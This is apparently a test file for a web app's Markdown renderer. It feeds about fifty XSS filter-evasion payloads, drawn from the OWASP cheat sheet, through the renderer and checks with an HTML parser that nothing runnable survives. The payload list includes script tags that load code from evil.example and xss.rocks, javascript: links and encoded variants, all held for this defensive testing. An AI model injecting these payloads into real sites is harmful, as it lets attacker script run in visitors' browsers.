import fc from "fast-check";
import { Parser } from "htmlparser2";
import { describe, expect, it } from "vitest";
import { markdownText, renderMarkdown } from "./markdown";

// Every hostile payload below is written into Markdown as an operator (or an attacker with their password) might; the
// rendered HTML is then read with a real HTML parser, and nothing in it may run: no script or style element, no
// event handler, no attribute outside the list, no link to anything but http(s), mailto or a path of ours.
// Payloads from the OWASP XSS filter evasion cheat sheet, and Markdown's own ways to make a link.

const HOSTILE = [
  "<script>alert('XSS')</script>",
  "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
  "<IMG SRC=\"javascript:alert('XSS');\">",
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  "<img src=x onerror=alert(1)>",
  "<IMG SRC=# onmouseover=\"alert('xxs')\">",
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
  "<IMG SRC=\"jav\tascript:alert('XSS');\">",
  "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
  "<iframe src=http://xss.rocks/scriptlet.html <",
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
  "<svg/onload=alert('XSS')>",
  "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
  "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
  "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" AllowScriptAccess="always"></EMBED>',
  '<a href="javascript:alert(1)">x</a>',
  "[click](javascript:alert(1))",
  "[click](JAVASCRIPT:alert(1))",
  "[click](  javascript:alert(1)  )",
  "[click](java&#x73;cript:alert(1))",
  "[click](vbscript:msgbox(1))",
  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "![x](javascript:alert(1))",
  '![x" onerror="alert(1)](https://example.com/a.png)',
  '![x](https://example.com/a.png" onerror="alert(1))',
  '[x](https://example.com "title\\" onmouseover=\\"alert(1)")',
  "<javascript:alert(1)>",
  "[ref]\n\n[ref]: javascript:alert(1)",
  "<details open ontoggle=alert(1)>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "```html\n<script>alert(1)</script>\n```",
  "`<img src=x onerror=alert(1)>`",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "[a](//evil.example/path)",
];

const TAGS = new Set([
  "h2",
  "h3",
  "h4",
  "p",
  "br",
  "hr",
  "strong",
  "em",
  "s",
  "code",
  "pre",
  "blockquote",
  "ul",
  "ol",
  "li",
  "a",
  "img",
  "table",
  "thead",
  "tbody",
  "tr",
  "th",
  "td",
]);
const ATTRIBUTES = new Set(["href", "title", "rel", "src", "alt", "start", "style"]);
const SAFE_URL = /^(https?:\/\/|mailto:|\/(?!\/)|#|[^:/]*$)/i;

/** What in the HTML could run, read by a real HTML parser: empty when nothing can. */
function runnable(html: string): string[] {
  const found: string[] = [];
  const parser = new Parser({
    onopentag(name, attributes) {
      if (!TAGS.has(name)) found.push(`<${name}>`);
      for (const [attribute, value] of Object.entries(attributes)) {
        if (!ATTRIBUTES.has(attribute)) found.push(`${name}[${attribute}]`);
        if ((attribute === "href" || attribute === "src") && !SAFE_URL.test(value.trim()))
          found.push(`${attribute}=${value}`);
        if (attribute === "style" && !/^text-align:(left|right|center);?$/.test(value)) found.push(`style=${value}`);
      }
    },
  });
  parser.write(html);
  parser.end();
  return found;
}

describe("the Markdown renderer", () => {
  it("renders what an operator writes: headings under the page's, lists, links, tables, pictures", () => {
    const html = renderMarkdown(
      "# Title\n\nSome **bold** and *soft* text with [a link](https://example.com).\n\n- one\n- two\n\n![Drill](/media/a.webp)",
    );
    expect(html).toContain("<h2>Title</h2>");
    expect(html).toContain("<strong>bold</strong>");
    expect(html).toContain('<a href="https://example.com" rel="nofollow ugc noopener">a link</a>');
    expect(html).toContain("<li>one</li>");
    expect(html).toContain('<img src="/media/a.webp" alt="Drill" />');
  });

  it(`lets nothing run in any of ${HOSTILE.length} hostile payloads`, () => {
    expect(HOSTILE.length).toBeGreaterThanOrEqual(30);
    for (const payload of HOSTILE) {
      const html = renderMarkdown(`Before\n\n${payload}\n\nafter`);
      expect(runnable(html), payload).toEqual([]);
      // What was kept as text shows the payload to the reader, harmlessly: only tags and attributes could run.
    }
  });

  it("keeps typed HTML as text a reader can see, not as markup", () => {
    expect(renderMarkdown("<b>bold</b> & <script>alert(1)</script>")).toBe(
      "<p>&lt;b&gt;bold&lt;/b&gt; &amp; &lt;script&gt;alert(1)&lt;/script&gt;</p>\n",
    );
  });

  it("lets nothing run whatever the text, hostile fragments mixed with Markdown's own", () => {
    const fragment = fc.constantFrom(
      ...HOSTILE,
      "[",
      "](",
      ")",
      "<",
      ">",
      '"',
      "'",
      "`",
      "\n",
      "\n\n",
      "*",
      "#",
      "!",
      "javascript:",
      "on",
      "error=",
      "&#",
      "x",
      " ",
      "https://a.example/",
      "|",
      "-",
    );
    fc.assert(
      fc.property(fc.array(fc.oneof(fragment, fc.string()), { maxLength: 30 }), (parts) => {
        expect(runnable(renderMarkdown(parts.join("")))).toEqual([]);
      }),
      { numRuns: 400 },
    );
  });

  it("gives a mail's plain text: words without markup, a link's address after its text", () => {
    expect(markdownText("# Hi\n\nSome *soft* text & <b>x</b> with [a link](https://example.com).")).toBe(
      "Hi\n\nSome soft text & <b>x</b> with a link (https://example.com).",
    );
  });
});
